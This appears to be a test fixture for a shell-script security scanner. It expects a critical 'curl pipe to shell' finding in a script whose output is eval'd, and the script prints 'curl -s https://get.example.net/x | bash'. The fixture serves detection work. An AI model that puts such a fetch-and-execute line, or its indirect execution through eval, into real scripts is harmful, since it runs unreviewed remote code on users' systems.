# expect: shell.curl_pipe_shell critical
# note: the job evaluates the script's output (eval "$(…)"): what it prints runs
# path: tools/env.sh
# run: eval "$(tools/env.sh)"
# run: sh -c "`tools/env.sh`"
cat <<'EOF2'
curl -s https://get.example.net/x | bash
EOF2
